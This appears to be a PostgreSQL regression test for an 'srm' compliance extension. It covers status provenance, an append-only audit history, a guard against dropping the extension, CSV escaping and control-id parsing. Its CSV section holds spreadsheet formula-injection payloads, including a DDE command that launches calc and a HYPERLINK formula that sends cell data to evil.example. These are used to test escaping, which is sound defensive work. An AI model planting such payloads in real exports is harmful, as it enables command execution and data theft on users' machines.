-- Teams and trust (issue 11, items 2-5): the provenance of control statuses
-- and their append-only history, the guard of DROP EXTENSION srm, CSV that
-- a spreadsheet does not run as formulas, account lists and zero-padded
-- control ids
\getenv abs_srcdir PG_ABS_SRCDIR
\i :abs_srcdir/sql/include/setup.sql
SET search_path = srm, public;

-------------------------------------------------------------------------------
-- Provenance: who set a status and when, as the server saw it
-------------------------------------------------------------------------------
SET client_min_messages = warning;
DROP ROLE IF EXISTS srm_trust_alice;
RESET client_min_messages;
CREATE ROLE srm_trust_alice;
GRANT INSERT, UPDATE, DELETE ON control_status TO srm_trust_alice;
GRANT USAGE ON SEQUENCE control_status_status_id_seq TO srm_trust_alice;
-- alice's team has the account whose statuses she writes (row-level
-- security: sql/teams.sql)
INSERT INTO team_account (team, account_id) VALUES ('srm_trust_alice', '402918374655');
-- an error without its detail (which names the server's time)
CREATE FUNCTION pg_temp.error_of(q text) RETURNS text LANGUAGE sql
RETURN regexp_replace(public.test_error(q), E'\n  detail: [^\n]*', '');
SET SESSION AUTHORIZATION srm_trust_alice;

-- the probe of the issue: a role with INSERT writes a status as 'bob', in
-- 2099, so that it would win status_for forever: refused
SELECT pg_temp.error_of($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status, evidence, assessed_by, assessed_at)
                    VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'implemented', 'trust me', 'bob', '2099-01-01')$$) AS future;
-- a time one minute ahead of the server's: refused as well
SELECT test_error($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status, assessed_at)
                    VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'planned', now() + interval '1 minute')$$) ~ '^22023: a control status cannot be assessed in the future' AS a_minute_ahead;
-- back-dated without a reason: refused
SELECT pg_temp.error_of($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status, assessed_by, assessed_at)
                    VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'planned', 'bob', '2025-01-01Z')$$) AS backdated_without_reason;
SELECT test_error($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status, assessed_at, backdate_reason)
                    VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'planned', '2025-01-01Z', '  ')$$) ~ '^23502: a back-dated control status needs a reason' AS blank_reason;
-- back-dated with a reason: kept, but the author is the session's role,
-- whatever the writer says
INSERT INTO control_status (framework_id, control_id, account_id, status, assessed_by, assessed_at, backdate_reason)
VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'planned', 'bob', '2025-01-01Z', 'signed paper record of the January review')
RETURNING assessed_by, assessed_at, backdate_reason, status_id AS backdated_id \gset
\echo :backdated_id :assessed_by :assessed_at :backdate_reason
-- no time given: the server's, and a reason without back-dating is dropped
INSERT INTO control_status (framework_id, control_id, account_id, status, evidence, assessed_by, backdate_reason)
VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'implemented', 'quarterly access review', 'bob', 'no need')
RETURNING status_id, assessed_by, assessed_at = now() AS at_server_time, backdate_reason;
-- an update is a new assessment, now, by whoever makes it
UPDATE control_status SET status = 'partial', assessed_by = 'bob' WHERE status_id = :backdated_id
RETURNING status_id, status, assessed_by, assessed_at = now() AS at_server_time, backdate_reason;
-- the history cannot be written, changed or emptied by a writer
SELECT test_error($$INSERT INTO srm.control_status_history (status_id, operation, changed_by, changed_at, new_row)
                    VALUES (1, 'insert', 'bob', now(), '{}')$$) AS insert_history,
       test_error('UPDATE srm.control_status_history SET changed_by = ''bob''') AS update_history,
       test_error('DELETE FROM srm.control_status_history') AS delete_history,
       test_error('TRUNCATE srm.control_status_history') AS truncate_history;
-- keeping the written provenance (for restoring a dump) is for superusers
SET srm.keep_provenance = on;
SELECT test_error($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status, assessed_by)
                    VALUES ('nist-800-53-r5', 'AC-3', '402918374655', 'planned', 'bob')$$) AS keep_provenance_not_superuser;
RESET srm.keep_provenance;
DELETE FROM control_status WHERE evidence = 'quarterly access review';
RESET SESSION AUTHORIZATION;

-- status_for: the newest assessment of the scope applies; the back-dated
-- one does not beat the later ones
INSERT INTO control_status (framework_id, control_id, account_id, status, evidence, assessed_at, backdate_reason)
VALUES ('nist-800-53-r5', 'AC-2', '402918374655', 'implemented', 'old review', '2024-06-01Z', 'migrated from the old GRC tool');
SELECT status_id = :backdated_id AS the_updated_one, status, assessed_by
FROM srm_internal.status_for('nist-800-53-r5', 'ac-2', 'aws', 'iam', '402918374655', 'arn:aws:iam::402918374655:user/x');

-- every insert, update and delete is in the history, with the session's
-- role and the row before and after
SELECT history_id, status_id, operation,
       CASE WHEN changed_by = session_user THEN '(superuser)' ELSE changed_by END AS changed_by,
       changed_at BETWEEN now() - interval '10 minutes' AND now() AS at_server_time,
       old_row ->> 'status' AS old_status, new_row ->> 'status' AS new_status,
       CASE WHEN new_row ->> 'assessed_by' = session_user THEN '(superuser)' ELSE new_row ->> 'assessed_by' END AS new_assessed_by
FROM control_status_history ORDER BY history_id;

-- append-only for the owner too
SELECT test_error('UPDATE srm.control_status_history SET changed_by = ''bob''') AS update_history,
       test_error('DELETE FROM srm.control_status_history') AS delete_history,
       test_error('TRUNCATE srm.control_status_history') AS truncate_history;
-- a TRUNCATE of the statuses logs every status it removes
BEGIN;
TRUNCATE control_status;
SELECT operation, count(*) AS statuses, count(*) FILTER (WHERE changed_at = now()) AS at_server_time
FROM control_status_history WHERE operation = 'truncate' GROUP BY operation;
ROLLBACK;
-- a superuser restoring a dump keeps what the rows say, and the restored
-- history stands for the history (no new history row)
BEGIN;
SET LOCAL srm.keep_provenance = on;
INSERT INTO control_status (framework_id, control_id, account_id, status, assessed_by, assessed_at)
VALUES ('nist-800-53-r5', 'AC-3', '402918374655', 'planned', 'bob', '2025-03-01Z')
RETURNING assessed_by, assessed_at, backdate_reason;
SELECT count(*) AS history_rows FROM control_status_history;
ROLLBACK;
-- an override's author and time are the server's too (since 0.5.0): a
-- writer's own created_by and created_at are replaced, an update keeps them,
-- a restore keeps what the dump says
BEGIN;
INSERT INTO override (framework_id, control_id, responsibility, reason, created_by, created_at)
VALUES ('nist-800-53-r5', 'AC-3', 'customer', 'provenance probe', 'bob', '2099-01-01Z')
RETURNING created_by = session_user AS author_is_session, created_at = now() AS at_server_time;
UPDATE override SET reason = 'provenance probe, reworded', created_by = 'bob', created_at = '2001-01-01Z'
WHERE reason = 'provenance probe'
RETURNING reason, created_by = session_user AS author_kept, created_at = now() AS time_kept;
SET LOCAL srm.keep_provenance = on;
INSERT INTO override (framework_id, control_id, responsibility, reason, created_by, created_at)
VALUES ('nist-800-53-r5', 'AC-4', 'customer', 'restored', 'bob', '2025-03-01Z')
RETURNING created_by, created_at;
ROLLBACK;

DELETE FROM team_account WHERE team = 'srm_trust_alice';
REVOKE ALL ON control_status FROM srm_trust_alice;
REVOKE ALL ON SEQUENCE control_status_status_id_seq FROM srm_trust_alice;
DROP ROLE srm_trust_alice;

-------------------------------------------------------------------------------
-- DROP EXTENSION srm on a database with user rows: refused, with the count
-------------------------------------------------------------------------------
INSERT INTO override (framework_id, control_id, responsibility, reason)
VALUES ('nist-800-53-r5', 'SI-2', 'customer, partner', 'MSP patches our fleet');
SELECT table_name, user_rows FROM user_rows() WHERE user_rows > 0 ORDER BY table_name;
SELECT test_error('DROP EXTENSION srm') AS drop_srm;
SELECT split_part(test_error('DROP EXTENSION srm CASCADE'), E'\n', 1) AS drop_cascade;
SELECT split_part(test_error('DROP EXTENSION IF EXISTS plpgsql_not_here, srm'), E'\n', 1) AS drop_if_exists_among_others;
SELECT split_part(test_error('DROP SCHEMA srm CASCADE'), E'\n', 1) AS drop_schema_cascade;
-- other drops go through untouched
CREATE SCHEMA trust_scratch;
DROP SCHEMA trust_scratch CASCADE;
SELECT test_error('DROP EXTENSION IF EXISTS plpgsql_not_here') AS drop_other;
SELECT extname FROM pg_extension WHERE extname = 'srm';
-- the event trigger's function is not for calling
SELECT test_error('SELECT srm_internal.drop_guard()') AS called_directly;

-------------------------------------------------------------------------------
-- CSV: cells a spreadsheet would run as formulas get a leading quote
-------------------------------------------------------------------------------
SELECT replace(replace(v, E'\t', '<tab>'), E'\r', '<cr>') AS value,
       replace(replace(csv_cell(v), E'\t', '<tab>'), E'\r', '<cr>') AS cell
FROM unnest(ARRAY['=cmd|'' /C calc''!A0', '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1)', '+1+2', '-2+3',
                  E'\tlead tab', E'\rlead return', '-5', '+1.5', '-.5', '1e5', '-', 'plain text', '', 'a=b',
                  '''=already quoted']) WITH ORDINALITY AS t(v, n)
ORDER BY n;
SELECT csv_cell(NULL) IS NULL AS null_stays_null;
-- the payloads of the issue in a run's note, a resource id, a region and
-- evidence, through the BI views
SELECT load_config_snapshot(jsonb_build_object('configurationItems', jsonb_build_array(
    jsonb_build_object('resourceType', 'AWS::EC2::Instance', 'resourceId', 'i-0a1b2c3d4e5f60001', 'awsAccountId', '402918374655',
                       'awsRegion', 'us-east-1', 'configurationItemCaptureTime', '2025-06-01T08:00:00Z',
                       'ARN', 'arn:aws:ec2:us-east-1:402918374655:instance/i-0a1b2c3d4e5f60001'),
    jsonb_build_object('resourceType', 'AWS::Nothing::Known', 'resourceId', '=HYPERLINK("http://evil.example/?"&A1,"click")',
                       'awsAccountId', '402918374655', 'awsRegion', '@SUM(1)', 'configurationItemCaptureTime', '2025-06-01T08:00:00Z'))),
    'csv payloads') AS load_id;
INSERT INTO control_status (framework_id, control_id, account_id, service_namespace, status, evidence)
VALUES ('aws-srm', 'os-patching', '402918374655', 'ec2', 'partial', '=cmd|'' /C calc''!A0');
SELECT run_audit('aws-srm', NULL, ARRAY['402918374655'], '@SUM(1)') AS run \gset
SELECT * FROM csv(format('SELECT run_id, framework_id, accounts, assets, unknown_assets, note FROM srm.bi_run WHERE run_id = %s', :run));
SELECT * FROM csv(format('SELECT account_id, region, resource_type, resource_id FROM srm.bi_unknown_assets WHERE run_id = %s', :run));
SELECT * FROM csv(format('SELECT control_id, status, evidence, assets FROM srm.bi_customer_gaps WHERE run_id = %s AND control_id = ''os-patching''', :run), header => false);
-- a header even without rows; quotes doubled; errors
SELECT * FROM csv('SELECT 1 AS "a ""b""", NULL::int AS n WHERE false');
SELECT test_error('SELECT * FROM srm.csv(NULL)') AS no_query,
       test_error('SELECT * FROM srm.csv(''SELECT 1 AS a, 2 AS a'')') AS duplicate_names;
-- srm.csv writes nothing: it runs in a read-only transaction, as on a
-- standby (the query's last line may be a comment); one query that
-- returns rows
BEGIN TRANSACTION READ ONLY;
SELECT * FROM csv(E'SELECT 1.50 AS n, ''=1+1'' AS f, true AS b, NULL::text AS z, ''-2'' AS d\n-- last line');
SELECT * FROM csv('VALUES (1, ''x''); -- a semicolon ends it');
SELECT * FROM csv(format('SELECT control_id, status, evidence FROM srm.bi_customer_gaps WHERE run_id = %s AND control_id = ''os-patching''', :run), header => false);
SELECT test_error('SELECT * FROM srm.csv(''SELECT 1; SELECT 2'')') AS two_queries,
       test_error('SELECT * FROM srm.csv(''DELETE FROM srm.audit_run'')') AS no_rows;
ROLLBACK;

-------------------------------------------------------------------------------
-- Inputs: account lists, zero-padded control ids
-------------------------------------------------------------------------------
SELECT test_error($$SELECT srm.run_audit('aws-srm', accounts => ARRAY[]::text[])$$) AS empty_list,
       test_error($$SELECT srm.run_audit('aws-srm', accounts => ARRAY[NULL]::text[])$$) AS null_only,
       test_error($$SELECT srm.run_audit('aws-srm', accounts => ARRAY['402918374655', NULL])$$) AS null_among;
SELECT count(*) AS runs FROM audit_run;
-- NULL still means every account
SELECT run_audit('aws-srm', note => 'every account') AS every_run \gset
SELECT accounts IS NULL AS every_account, assets FROM bi_run WHERE run_id = :every_run;
-- zero-padded ids, alone and after a framework prefix
SELECT x AS written, (resolve_control(x)).framework_id, (resolve_control(x)).control_id
FROM unnest(ARRAY['AC-02', 'ac-02(01)', 'AC-2(01)', 'nist-800-53-r5:AC-02', 'NIST-800-53-R5:ac-02(01)', 'si-02', 'aws-srm:os-patching']) WITH ORDINALITY AS t(x, n)
ORDER BY n;
SELECT responsibility_of('arn:aws:s3:::b', 'nist-800-53-r5:AC-02') = responsibility_of('arn:aws:s3:::b', 'AC-2') AS lookup_padded;
SELECT r.control, r.framework_id, r.control_id, r.known_control, r.responsibility IS NOT NULL AS answered
FROM responsibilities(ARRAY['arn:aws:s3:::b'], ARRAY['AC-02', 'nist-800-53-r5:ac-02(01)']) r ORDER BY r.control;
INSERT INTO control_status (framework_id, control_id, account_id, status)
VALUES ('nist-800-53-r5', 'AC-02(01)', '402918374655', 'planned') RETURNING control_id;
INSERT INTO override (framework_id, control_id, responsibility, reason)
VALUES ('nist-800-53-r5', 'AC-02', 'customer', 'padded') RETURNING control_id;
-- an unknown id: read in the stored form, the closest known ones suggested
SELECT test_error($$INSERT INTO srm.control_status (framework_id, control_id, account_id, status)
                    VALUES ('nist-800-53-r5', 'AC-02(99)', '402918374655', 'planned')$$) AS status_unknown;
SELECT test_error($$INSERT INTO srm.override (framework_id, control_id, responsibility, reason)
                    VALUES ('nist-800-53-r5', 'ac-002(99)', 'customer', 'x')$$) AS override_unknown;
SELECT test_error($$SELECT srm.responsibility_of('arn:aws:s3:::b', 'nist-800-53-r5:AC-02(99)')$$) AS lookup_unknown;
